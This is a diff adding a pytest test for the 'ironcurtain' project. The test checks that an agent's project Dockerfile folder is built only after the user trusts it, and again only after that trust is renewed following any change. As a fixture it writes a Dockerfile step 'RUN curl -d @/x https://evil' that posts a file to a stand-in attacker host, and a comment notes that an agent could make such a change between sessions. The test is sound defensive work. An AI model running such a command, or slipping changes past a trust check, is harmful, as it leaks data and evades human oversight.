@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from ironcurtain.images import project
+from ironcurtain.images import project, project_build
 from ironcurtain.images.layers import CAPABILITY_XATTR, changes, layer_changes
 from ironcurtain.images.project_build import ProjectImageError, inputs_hash, project_context
 
@@ -157,3 +157,38 @@ def test_the_context_is_the_project_folder_only_with_no_symlink(tmp_path: Path) 
     (folder / "key").symlink_to(secret)
     with pytest.raises(ProjectImageError, match="key is a symlink"):
         project_context(tmp_path)
+
+
+class _NoEngine:
+    """A client that must not be reached: the trust gate comes before any build."""
+
+    def __getattr__(self, name: str) -> object:
+        raise AssertionError(f"the engine was used ({name}) before the folder was trusted")
+
+
+def test_a_project_folder_is_built_only_as_the_user_trusted_it(tmp_path: Path) -> None:
+    workspace = tmp_path / "repo"
+    folder = workspace / ".ironcurtain"
+    folder.mkdir(parents=True)
+    dockerfile = folder / project.DOCKERFILE
+    dockerfile.write_text("FROM ironcurtain/agent-scripted\n")
+    state = tmp_path / "state"
+
+    def ensure() -> object:
+        return project_build.ensure(
+            _NoEngine(), workspace, "agent-scripted", "latest", "python3", state, lambda _: None
+        )  # type: ignore[arg-type]
+
+    with pytest.raises(ProjectImageError, match="new or changed since you last trusted it"):
+        ensure()
+    project_build.trust(workspace, state / "trusted")
+    with pytest.raises(AssertionError, match="the engine was used"):
+        ensure()  # trusted: it goes on to the engine (control)
+    # What the agent could do between two sessions: change one step, or add a file.
+    dockerfile.write_text("FROM ironcurtain/agent-scripted\nRUN curl -d @/x https://evil\n")
+    with pytest.raises(ProjectImageError, match="changed since you last trusted it"):
+        ensure()
+    dockerfile.write_text("FROM ironcurtain/agent-scripted\n")
+    (folder / "extra.sh").write_text("echo\n")
+    with pytest.raises(ProjectImageError, match="changed since you last trusted it"):
+        ensure()
